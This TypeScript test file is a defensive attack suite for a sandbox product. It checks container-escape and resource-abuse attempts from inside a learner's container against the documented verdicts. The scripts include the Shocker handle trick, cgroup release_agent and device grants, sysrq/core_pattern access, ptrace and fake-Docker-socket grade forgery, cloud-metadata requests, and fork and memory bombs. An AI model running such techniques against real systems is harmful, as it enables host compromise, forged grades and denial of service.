/**
 * Attack suite: what a malicious learner, root inside a default ("classroom" tier) sandbox, tries.
 * Every row of the table in docs/security.md has a probe here, and each probe's verdict must be
 * the documented one, so the document cannot drift from what this build actually holds.
 *
 * SAFETY: every probe is a harmless variant. Nothing is written to the host: kernel files are
 * opened for writing and closed without a byte; a device grant is read-only and revoked; a
 * release_agent would only get its own value back; block devices are read (512 bytes), never
 * written or mounted; network probes go only to addresses of this machine, with short timeouts.
 */
import { connect } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { App } from "../../sandbox-server/src/app.ts";
import { ShipshapeError } from "../../sandbox-server/src/errors.ts";
import { startTestApp } from "../support/server.ts";
import { openSession, TestTerminal, type Session } from "../support/terminal.ts";
import { PREVIEW_SOCKET_IDLE_FOR_PROBES, previewProbes } from "./preview-probes.ts";
import { FORGED_CONTAINER_ID, startFakeEngine, traceProbeFromSandbox } from "./grading-probe.ts";
import {
  documentedAttacks,
  firewallDrops,
  hostAddresses,
  hostEngineId,
  hostListener,
  pollUntil,
  readCgroupFile,
  securityEnv,
  sleep,
  type Verdict,
} from "./support.ts";

const LIMITS = { memory: 256 * 1024 ** 2, pids: 200, disk: 200 * 1024 ** 2 };

interface Probe {
  verdict: Verdict;
  /** What was observed, printed with the verdict so a failure explains itself. */
  evidence: string;
}

let app: App & { env: Record<string, string> };
const terminals: TestTerminal[] = [];

/** A learner's sandbox: its session, an open terminal and the container id. */
async function learner(): Promise<{ session: Session; term: TestTerminal; id: string; address: string }> {
  const session = await openSession(app.url);
  const term = new TestTerminal(session);
  terminals.push(term);
  await term.ready(60_000);
  const info = (await app.runtime.list()).find((s) => s.sessionId === session.sessionId);
  if (!info?.address) throw new Error("the learner's sandbox has no address");
  return { session, term, id: info.id, address: info.address };
}

let shared: Promise<Awaited<ReturnType<typeof learner>>> | undefined;
/** One sandbox for the probes that leave it as they found it (saves a sandbox start each). */
function sharedLearner(): ReturnType<typeof learner> {
  shared ??= learner();
  return shared;
}

async function endLearner(session: Session): Promise<void> {
  await fetch(`${app.url}/api/sessions/current`, { method: "DELETE", headers: { origin: app.url, cookie: session.cookie } }).catch(() => {});
}

/** Runs a shell script as root in the sandbox, exactly as the learner's own shell could. */
async function inSandbox(id: string, script: string, timeoutMs = 30_000): Promise<string> {
  const r = await app.runtime.exec(id, ["bash", "-c", script], { timeoutMs });
  if (r.timedOut) throw new Error(`probe timed out after ${timeoutMs} ms:\n${r.stdout}\n${r.stderr}`);
  return `${r.stdout}${r.stderr ? `\n[stderr] ${r.stderr.trim()}` : ""}`.trim();
}

/** `@@NAME@@` placeholders, so shell `$var` needs no escaping in these scripts. */
function fill(script: string, vars: Record<string, string | number>): string {
  return script.replace(/@@([A-Z_]+)@@/g, (_m, k: string) => {
    if (!(k in vars)) throw new Error(`no value for @@${k}@@`);
    return String(vars[k]);
  });
}

/** Sends 127.0.0.1 out of eth0 to the bridge gateway (the "localhost boundary" trick) for the probe's duration. */
const LOOPBACK_VIA_GATEWAY = String.raw`
gw=$(ip route | awk '/^default/ {print $3; exit}')
mkdir -p /tmp/.ss-proc && mount -t proc proc /tmp/.ss-proc
echo 1 > /tmp/.ss-proc/sys/net/ipv4/conf/eth0/route_localnet
echo 1 > /tmp/.ss-proc/sys/net/ipv4/conf/all/route_localnet
ip route del local 127.0.0.1 dev lo table local 2>/dev/null
ip route del local 127.0.0.0/8 dev lo table local 2>/dev/null
ip route add 127.0.0.1/32 via "$gw" dev eth0
restore_loopback() {
  ip route del 127.0.0.1/32 via "$gw" dev eth0 2>/dev/null
  ip route add local 127.0.0.0/8 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
  ip route add local 127.0.0.1 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
  echo 0 > /tmp/.ss-proc/sys/net/ipv4/conf/eth0/route_localnet
  umount /tmp/.ss-proc
}
`;

/**
 * Tries `http://<target><path>` for each "host:port" from the sandbox in parallel (2 s each) and,
 * when `loopbackPort` is set, 127.0.0.1 routed to the bridge gateway; prints "reached ..." for
 * every answer that carries the banner.
 */
function reachScript(targets: string[], urlPath: string, banner: string, loopbackPort?: number): string {
  return fill(
    String.raw`
try() { out=$(curl -s -m 2 "http://$1@@PATH@@" 2>/dev/null); case "$out" in *@@BANNER@@*) echo "reached $1";; *) echo "blocked $1";; esac; }
for t in @@TARGETS@@; do try "$t" & done; wait
if [ -n "@@LOOPPORT@@" ]; then
${LOOPBACK_VIA_GATEWAY}
  out=$(curl -s -m 2 "http://127.0.0.1:@@LOOPPORT@@@@PATH@@" 2>/dev/null)
  case "$out" in *@@BANNER@@*) echo "reached 127.0.0.1:@@LOOPPORT@@ routed to the gateway";; *) echo "blocked 127.0.0.1:@@LOOPPORT@@ routed to the gateway";; esac
  restore_loopback
fi
`,
    { TARGETS: targets.join(" "), PATH: urlPath, BANNER: banner, LOOPPORT: loopbackPort ?? "" },
  );
}

const verdictOf = (open: boolean): Verdict => (open ? "open" : "contained");

// ---------------------------------------------------------------------------------------------
// One probe per documented attack. Each returns the verdict and the evidence behind it.

const probes: Record<string, () => Promise<Probe>> = {
  ...previewProbes({ app: () => app, learner: sharedLearner, inSandbox }),
  /** The host's engine: any socket in the sandbox that answers as it, or its TCP ports. */
  async "host-docker-socket"() {
    const { id } = await sharedLearner();
    const hostId = hostEngineId();
    const tcp = hostAddresses().flatMap((a) => [`${a}:2375`, `${a}:2376`]);
    const out = await inSandbox(
      id,
      fill(
        String.raw`
echo "inner engine $(docker info --format '{{.ID}}')"
for s in $(find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type s -print 2>/dev/null); do
  echo "socket $s engine=$(curl -s -m 2 --unix-socket "$s" http://engine/info 2>/dev/null | jq -r '.ID // "none"' 2>/dev/null)"
done
for t in @@TCP@@; do (curl -s -m 2 -o /dev/null "http://$t/version" && echo "tcp $t answers" || echo "tcp $t no answer") & done; wait
`,
        { TCP: tcp.join(" ") },
      ),
      60_000,
    );
    const open = out.includes(hostId) || / answers$/m.test(out);
    return { verdict: verdictOf(open), evidence: `host engine ${hostId}\n${out}` };
  },

  /** "Shocker": open_by_handle_at on the host filesystem behind /etc/hosts, root inode. */
  async "host-files-by-handle"() {
    const { id } = await sharedLearner();
    const out = await inSandbox(
      id,
      String.raw`grep -E ' /etc/hosts ' /proc/self/mountinfo | awk '{print "/etc/hosts is", $4, "on", $9, $10}'
cat > /tmp/.ss-handle.pl <<'EOF'
open(my $fh, "<", "/etc/hosts") or die "open: $!";
my $handle = pack("LlLL", 8, 1, 2, 0); # 8 bytes, FILEID_INO32_GEN, inode 2 (a filesystem's root), generation 0
my $fd = syscall(304, fileno($fh), $handle, 0x10000); # open_by_handle_at(..., O_RDONLY|O_DIRECTORY)
if ($fd < 0) { printf "open_by_handle_at refused: %s\n", $!; exit 0; }
opendir(my $d, "/proc/self/fd/$fd"); my @n = grep { !/^\./ } readdir($d);
printf "OPENED the host filesystem root: %d entries (%s ...)\n", scalar(@n), join(",", (sort @n)[0..3]);
EOF
perl /tmp/.ss-handle.pl; grep CapBnd /proc/self/status`,
    );
    return { verdict: verdictOf(out.includes("OPENED")), evidence: out };
  },

  /** A node for the host's disk (mknod), the devices cgroup widened by the learner, 512 bytes read. */
  async "host-block-device"() {
    const { id } = await sharedLearner();
    const out = await inSandbox(
      id,
      String.raw`
dev=$(awk '$5 == "/etc/hosts" {print $3; exit}' /proc/self/mountinfo); maj=$(echo "$dev" | cut -d: -f1); min=$(echo "$dev" | cut -d: -f2)
echo "host disk is block device $maj:$min"
rm -f /tmp/.ss-blk; mknod /tmp/.ss-blk b "$maj" "$min" && echo "mknod: allowed (only the devices cgroup decides)"
if err=$(dd if=/tmp/.ss-blk of=/dev/null bs=512 count=1 2>&1); then echo "READ 512 bytes of the host disk"; else echo "read refused: $(echo "$err" | head -1)"; fi
mkdir -p /tmp/.ss-dev && mount -t cgroup -o devices cgroup /tmp/.ss-dev
if echo "b $maj:$min r" > /tmp/.ss-dev/devices.allow 2>/dev/null; then
  echo "GRANTED itself read access to $maj:$min in its devices cgroup"
  if err=$(dd if=/tmp/.ss-blk of=/dev/null bs=512 count=1 2>&1); then echo "READ 512 bytes of the host disk after the grant"; else echo "read after the grant refused: $(echo "$err" | head -1) (this kernel refuses block devices to everyone)"; fi
  echo "b $maj:$min r" > /tmp/.ss-dev/devices.deny
else
  echo "grant refused: the devices cgroup it can write is a child of the container's whitelist"
fi
umount /tmp/.ss-dev; rm -f /tmp/.ss-blk`,
    );
    return { verdict: verdictOf(/^(READ|GRANTED)/m.test(out)), evidence: out };
  },

  /** cgroup v1 release_agent: a hierarchy root whose release_agent the learner could write. */
  async "cgroup-release-agent"() {
    const { id } = await sharedLearner();
    const out = await inSandbox(
      id,
      String.raw`
for c in $(awk 'NR > 1 && $4 == 1 {print $1}' /proc/cgroups) name=systemd; do
  d=/tmp/.ss-cg-$(echo "$c" | tr = _); mkdir -p "$d"; opts=$c; case $c in name=*) opts="none,$c";; esac
  if ! mount -t cgroup -o "$opts" cgroup "$d" 2>/dev/null; then echo "$c: mount refused"; rmdir "$d"; continue; fi
  if [ -e "$d/release_agent" ]; then
    cur=$(cat "$d/release_agent")
    # Writing back its current value changes nothing; a refusal proves it cannot be set.
    if printf '%s\n' "$cur" > "$d/release_agent" 2>/dev/null; then echo "$c: RELEASE_AGENT WRITABLE (value '$cur' written back unchanged)"; else echo "$c: release_agent visible, write refused"; fi
  else
    echo "$c: no release_agent (namespace root is not the hierarchy root)"
  fi
  umount "$d"; rmdir "$d"
done
mkdir -p /tmp/.ss-newh
if mount -t cgroup -o none,name=shipshapeprobe cgroup /tmp/.ss-newh 2>/dev/null; then echo "NEW HIERARCHY mounted: $(ls /tmp/.ss-newh | tr '\n' ' ')"; umount /tmp/.ss-newh; else echo "new named hierarchy: refused"; fi`,
    );
    return { verdict: verdictOf(/WRITABLE|NEW HIERARCHY/.test(out)), evidence: out };
  },

  /** Lift its own memory and process limits through a cgroup mount it controls. */
  async "cgroup-limits"() {
    const { id, session } = await learner();
    const before = { pids: readCgroupFile("pids", id, "pids.max"), memory: readCgroupFile("memory", id, "memory.limit_in_bytes") };
    // Harmless variant: the learner LOWERS what it sees as its limits; had that reached the
    // container's own cgroup, "max" would have too.
    const out = await inSandbox(
      id,
      fill(
        String.raw`
for c in pids memory; do mkdir -p /tmp/.ss-$c; mount -t cgroup -o $c cgroup /tmp/.ss-$c; done
echo "sees pids.max=$(cat /tmp/.ss-pids/pids.max) memory.limit=$(cat /tmp/.ss-memory/memory.limit_in_bytes)"
echo 150 > /tmp/.ss-pids/pids.max && echo "wrote pids.max=150"
echo @@MEM@@ > /tmp/.ss-memory/memory.limit_in_bytes && echo "wrote memory.limit_in_bytes=@@MEM@@"
for c in pids memory; do umount /tmp/.ss-$c; done`,
        { MEM: 200 * 1024 ** 2 },
      ),
    );
    const after = { pids: readCgroupFile("pids", id, "pids.max"), memory: readCgroupFile("memory", id, "memory.limit_in_bytes") };
    await endLearner(session);
    const changed = after.pids !== before.pids || after.memory !== before.memory;
    return {
      verdict: verdictOf(changed),
      evidence: `${out}\ncontainer cgroup on the host before: ${JSON.stringify(before)}, after: ${JSON.stringify(after)}`,
    };
  },

  /** /proc/sysrq-trigger and host-wide kernel settings (/proc/sys), directly or through a fresh procfs. */
  async "kernel-settings"() {
    const { id } = await sharedLearner();
    const out = await inSandbox(
      id,
      String.raw`
# Opened for writing and closed without writing a byte: proves the permission, triggers nothing.
w() { if [ ! -e "$1" ]; then echo "absent $1"; elif ( exec 3>>"$1" ) 2>/dev/null; then echo "WRITABLE $1"; else echo "refused $1"; fi; }
w /proc/sysrq-trigger; w /proc/sys/kernel/core_pattern
mkdir -p /tmp/.ss-proc
if mount -t proc proc /tmp/.ss-proc 2>/dev/null; then
  echo "fresh procfs mounted"
  w /tmp/.ss-proc/sysrq-trigger; w /tmp/.ss-proc/sys/kernel/core_pattern; w /tmp/.ss-proc/sys/vm/drop_caches
  umount /tmp/.ss-proc
else echo "fresh procfs refused"; fi`,
    );
    return { verdict: verdictOf(out.includes("WRITABLE")), evidence: out };
  },

  /** Load a kernel module: the capability, and init_module on an invalid buffer. */
  async "kernel-module"() {
    const { id } = await sharedLearner();
    const out = await inSandbox(
      id,
      String.raw`grep -E 'Cap(Eff|Bnd)' /proc/self/status
cat > /tmp/.ss-mod.pl <<'EOF'
my $p = ""; my $r = syscall(175, 0, 0, $p); # init_module(NULL, 0, ""): never a module
printf "init_module errno=%d (%s)\n", $!+0, $!;
EOF
perl /tmp/.ss-mod.pl; [ -e /proc/modules ] && echo "kernel has module support" || echo "kernel without module support"`,
    );
    const bnd = BigInt(`0x${/CapBnd:\s*([0-9a-f]+)/.exec(out)?.[1] ?? "0"}`);
    const hasCap = (bnd & (1n << 16n)) !== 0n; // CAP_SYS_MODULE
    const errno = Number(/init_module errno=(\d+)/.exec(out)?.[1] ?? -1);
    // EPERM: refused for want of the capability; ENOSYS: no module support. Anything else means it tried.
    return { verdict: verdictOf(hasCap || ![1, 38].includes(errno)), evidence: `CAP_SYS_MODULE in bounding set: ${hasCap}\n${out}` };
  },

  /** Code the learner can ptrace (the grading probe) must hold nothing the sandbox lacks. */
  /** Trace the grading probe (PTRACE_ATTACH to its processes) to use its privileges or change its answers. */
  async "probe-privileges"() {
    const { id, session } = await sharedLearner();
    const attempt = await traceProbeFromSandbox(app.runtime, id, session.sessionId, inSandbox);
    if (!attempt.controlAttached) throw new Error(`ptrace does not work in the sandbox at all, so this probe proves nothing:\n${attempt.evidence}`);
    return { verdict: verdictOf(attempt.nameable.length > 0 || attempt.attached.length > 0), evidence: attempt.evidence };
  },

  /**
   * Forge a grade with a fake engine where the probe looks for the real one: bind-mounted over
   * /run/docker.sock, then served from another network namespace in its place. Open when the
   * probe's `docker ps` shows the fake's container.
   */
  async "grading-forgery"() {
    const { id } = await sharedLearner();
    const variants = {
      "bind-mounted over /run/docker.sock": {
        setUp: `${startFakeEngine("/tmp/fake.sock")}\nmount --bind /tmp/fake.sock /run/docker.sock`,
        undo: "umount /run/docker.sock",
      },
      "served from another network namespace": {
        setUp: `${startFakeEngine("/run/fake.sock", "unshare --net --mount")}\nmv /run/docker.sock /run/docker.sock.real && mv /run/fake.sock /run/docker.sock`,
        undo: "rm -f /run/docker.sock && mv /run/docker.sock.real /run/docker.sock",
      },
    };
    const evidence: string[] = [];
    let forged = false;
    for (const [name, v] of Object.entries(variants)) {
      const setUp = await inSandbox(id, `${v.setUp}\ndocker ps -aq --no-trunc`);
      try {
        // Positive control: the learner's own docker now talks to the fake.
        if (!setUp.includes(FORGED_CONTAINER_ID)) throw new Error(`the fake engine did not take the engine's place:\n${setUp}`);
        const probe = await app.runtime.probe(id);
        try {
          const seen = await probe.exec(["docker", "ps", "-aq", "--no-trunc"]).then(
            (r) => r.stdout,
            (e: unknown) => `refused: ${e instanceof ShipshapeError ? `${e.userMessage} (${e.detail})` : String(e)}`,
          );
          forged ||= seen.includes(FORGED_CONTAINER_ID);
          evidence.push(`${name}: the probe's docker ps: ${seen.trim().split("\n").join(" ")}`);
        } finally {
          await probe.close();
        }
      } finally {
        await inSandbox(id, `kill $(cat /tmp/fake-engine.pid); ${v.undo}; docker version --format 'engine back: {{.Server.Version}}'`);
      }
    }
    return { verdict: verdictOf(forged), evidence: evidence.join("\n") };
  },

  /** A service on the host (every address, and 127.0.0.1 routed to the gateway). */
  async "host-services"() {
    const { id } = await sharedLearner();
    const listener = await hostListener("shipshape-host-service");
    try {
      // Positive control: the service answers from the host itself.
      expect(await tcpBanner("127.0.0.1", listener.port)).toContain("shipshape-host-service");
      const targets = hostAddresses().map((a) => `${a}:${listener.port}`);
      const out = await inSandbox(id, reachScript(targets, "/", "shipshape-host-service", listener.port));
      return { verdict: verdictOf(/^reached/m.test(out)), evidence: out };
    } finally {
      await listener.close();
    }
  },

  /** The sandbox server's own port (the test server listens on every address, like production). */
  async "server-port"() {
    const { id } = await sharedLearner();
    const targets = hostAddresses().map((a) => `${a}:${app.port}`);
    const out = await inSandbox(id, reachScript(targets, "/healthz", '"ok"', app.port));
    return { verdict: verdictOf(/^reached/m.test(out)), evidence: `server on 0.0.0.0:${app.port}\n${out}` };
  },

  /** Another learner's sandbox: a service it runs, and ping. */
  async "other-sandbox"() {
    const a = await sharedLearner();
    const b = await learner();
    await inSandbox(
      b.id,
      String.raw`nohup perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalPort => 7000, Listen => 5, ReuseAddr => 1) or die; while ($c = $s->accept) { print $c "HTTP/1.0 200 OK\r\n\r\nsandbox-b-service\n"; close $c }' >/dev/null 2>&1 &
for i in $(seq 100); do ss -ltn | grep -q ':7000 ' && break; sleep 0.1; done`,
    );
    // Positive control: the host reaches B's service, so "blocked" below means the policy.
    expect(await tcpBanner(b.address, 7000)).toContain("sandbox-b-service");
    const out = await inSandbox(
      a.id,
      fill(
        String.raw`
out=$(curl -s -m 2 http://@@B@@:7000/ 2>/dev/null); case "$out" in *sandbox-b-service*) echo "reached @@B@@:7000";; *) echo "blocked @@B@@:7000";; esac
ping -c 1 -W 1 @@B@@ >/dev/null 2>&1 && echo "reached @@B@@ by ping" || echo "blocked @@B@@ by ping"`,
        { B: b.address },
      ),
    );
    return { verdict: verdictOf(/^reached/m.test(out)), evidence: out };
  },

  /** Cloud metadata: 169.254.169.254 must be dropped on the host before it leaves. */
  async "cloud-metadata"() {
    const { id } = await sharedLearner();
    let evidence = "";
    let answered = false;
    // Twice at most: set-up re-applying the egress policy meanwhile resets the rule's counter.
    for (let attempt = 1; attempt <= 2; attempt++) {
      const dropsBefore = firewallDrops("SHIPSHAPE-EGRESS", "169.254.0.0/16");
      const started = Date.now();
      const out = await inSandbox(
        id,
        String.raw`code=$(curl -s -m 2 -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/); echo "curl exit $? http $code"`,
      );
      const ms = Date.now() - started;
      const dropsAfter = firewallDrops("SHIPSHAPE-EGRESS", "169.254.0.0/16");
      expect(ms, "the probe is bounded by its 2 s timeout").toBeLessThan(10_000);
      answered = !/http 000/.test(out);
      evidence = `${out}\n${ms} ms; packets dropped by the host's 169.254.0.0/16 rule: ${dropsBefore} -> ${dropsAfter}`;
      const counted = dropsBefore === undefined || dropsAfter === undefined || dropsAfter > dropsBefore;
      if (counted || answered) break;
      if (attempt === 2) throw new Error(`the host's egress rule did not count the dropped packets:\n${evidence}`);
    }
    return { verdict: verdictOf(answered), evidence };
  },

  /** A fork bomb, after lifting the process limit it can see. */
  async "fork-bomb"() {
    const { id, term, session } = await learner();
    const bystander = await sharedLearner();
    term.type("echo max > /sys/fs/cgroup/pids/pids.max; bomb() { bomb | bomb & }; bomb\r");
    await term.until(() => term.messages.some((m) => m.code === "pids_limit"), 30_000, "pids notice");
    const peak = Number(readCgroupFile("pids", id, "pids.current"));
    const latency = await roundTrip(bystander.term);
    const notice = String(term.messages.find((m) => m.code === "pids_limit")?.message);
    await endLearner(session);
    return {
      verdict: verdictOf(peak > LIMITS.pids || latency > 5_000),
      evidence: `processes in the sandbox ${peak} (limit ${LIMITS.pids}); bystander echo ${latency} ms; notice: ${notice}`,
    };
  },

  /** A memory bomb, after lifting the memory limit it can see. */
  async "memory-bomb"() {
    const { id, term, session } = await learner();
    term.type("echo -1 > /sys/fs/cgroup/memory/memory.limit_in_bytes; head -c 600m /dev/zero | tail > /dev/null\r");
    await term.until(() => term.messages.some((m) => m.code === "oom"), 30_000, "oom notice");
    const peak = Number(readCgroupFile("memory", id, "memory.max_usage_in_bytes"));
    const survived = (await term.run("echo survived", 15_000)).includes("survived");
    await endLearner(session);
    return {
      verdict: verdictOf(peak > LIMITS.memory * 1.02 || !survived),
      evidence: `peak memory ${Math.round(peak / 1024 ** 2)} MiB (limit ${LIMITS.memory / 1024 ** 2} MiB); sandbox survived: ${survived}; notice: ${String(term.messages.find((m) => m.code === "oom")?.message)}`,
    };
  },

  /** Filling the host's disk through the sandbox's own filesystem, then closing the tab. */
  async "disk-fill"() {
    const { id, term, session } = await learner();
    term.type("nohup dd if=/dev/zero of=/root/filler bs=1M count=300 status=none >/dev/null 2>&1 &\r");
    await sleep(500);
    term.close(); // nobody watching: the limit must hold anyway
    const gone = await pollUntil(() => app.runtime.inspect(id), (info) => info === null, 40_000, 500);
    // The learner who comes back is told why.
    const back = new TestTerminal(session);
    terminals.push(back);
    const closed = await back.waitForClose(15_000);
    return {
      verdict: verdictOf(gone !== null),
      evidence: `sandbox ${gone === null ? "ended" : "still running"} after writing 300 MiB past a ${LIMITS.disk / 1024 ** 2} MiB limit; returning terminal closed ${closed.code}: ${closed.reason}`,
    };
  },

  /** A CPU hog (and a realtime-priority attempt) while another learner's echo latency is measured. */
  async "cpu-hog"() {
    const hog = await learner();
    const bystander = await sharedLearner();
    const baseline = await roundTrip(bystander.term, 5);
    const rt = await inSandbox(hog.id, "chrt -f 50 true 2>&1 && echo REALTIME granted || echo realtime refused");
    const usage = () => Number(readCgroupFile("cpuacct", hog.id, "cpuacct.usage"));
    hog.term.type("for i in 1 2 3 4; do (while :; do :; done) & done\r");
    await sleep(1_000);
    const loops = Number((await inSandbox(hog.id, "ps -eo stat,args | grep -c '^R.*bash'")).split("\n")[0]);
    if (!(loops >= 1)) throw new Error(`the hog's loops are not running: the probe proves nothing`);
    const t0 = Date.now();
    const u0 = usage();
    let during = 0;
    while (Date.now() - t0 < 4_000) during = Math.max(during, await roundTrip(bystander.term, 1));
    const cores = (usage() - u0) / 1e6 / (Date.now() - t0);
    await endLearner(hog.session);
    // The quota is the containment; the bystander's latency is measured on a machine that may be
    // busy with other work too, so it is judged against its own baseline.
    const slow = during > Math.max(2_000, 4 * baseline);
    return {
      verdict: verdictOf(cores > 1.15 || slow || /REALTIME granted/.test(rt)),
      evidence: `hog (4 busy loops) used ${cores.toFixed(2)} cores (limit 1); bystander echo worst ${during} ms (before: ${baseline} ms); ${rt}`,
    };
  },
};

/** Worst round trip of `n` echo commands through a terminal, in ms. */
async function roundTrip(term: TestTerminal, n = 3): Promise<number> {
  let worst = 0;
  for (let i = 0; i < n; i++) {
    const started = Date.now();
    await term.run(`echo rt${i}`, 20_000);
    worst = Math.max(worst, Date.now() - started);
  }
  return worst;
}

function tcpBanner(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    let data = "";
    const socket = connect({ host, port, timeout: 3_000 });
    socket.on("data", (c) => (data += c.toString("utf8")));
    socket.on("end", () => resolve(data));
    socket.on("timeout", () => socket.destroy());
    socket.on("error", () => resolve(data));
    socket.on("close", () => resolve(data));
  });
}

// ---------------------------------------------------------------------------------------------

// Rows whose text names another file (`tests/security/network.test.ts`) are probed there.
const documented = new Map([...documentedAttacks()].filter(([, row]) => row.probedIn === "attacks.test.ts"));

describe("attacks from inside a classroom-tier sandbox, as docs/security.md says", () => {
  beforeAll(async () => {
    app = await startTestApp(
      securityEnv({
        HOST: "0.0.0.0",
        SHIPSHAPE_SANDBOX_MEMORY: "256m",
        SHIPSHAPE_SANDBOX_PIDS: String(LIMITS.pids),
        SHIPSHAPE_SANDBOX_DISK: "200m",
        SHIPSHAPE_SANDBOX_CPUS: "1",
        SHIPSHAPE_LIMIT_CHECK_INTERVAL: "1s",
        SHIPSHAPE_PREVIEW_SOCKET_IDLE: PREVIEW_SOCKET_IDLE_FOR_PROBES,
      }),
    );
  });

  afterAll(async () => {
    for (const t of terminals) t.close();
    for (const s of (await app?.runtime.list().catch(() => [])) ?? []) await app.runtime.destroy(s.id).catch(() => {});
    await app?.close();
  });

  it("documents every attack probed here, and probes every documented attack", () => {
    expect([...documented.keys()].sort()).toEqual(Object.keys(probes).sort());
    for (const row of documented.values()) {
      if (row.classroom === "open") {
        expect(row.closedIn, `docs/security.md:${row.line}: an open attack names the tier and setting that closes it`).toMatch(/SHIPSHAPE_SANDBOX_RUNTIME|sysbox|Kata|gVisor/i);
      }
    }
  });

  it("runs against the classroom tier (no user-namespaced runtime)", () => {
    expect(app.env.SHIPSHAPE_SANDBOX_RUNTIME ?? "").toBe("");
  });

  for (const [id, row] of documented) {
    it(`${id}: ${row.classroom}`, async () => {
      const probe = probes[id];
      if (!probe) throw new Error(`no probe for ${id}`);
      const result = await probe();
      console.log(`[${id}] ${result.verdict}\n  ${result.evidence.split("\n").join("\n  ")}`);
      expect(result.verdict, `docs/security.md:${row.line} says ${id} is ${row.classroom}. Evidence:\n${result.evidence}`).toBe(row.classroom);
    }, 90_000);
  }
});
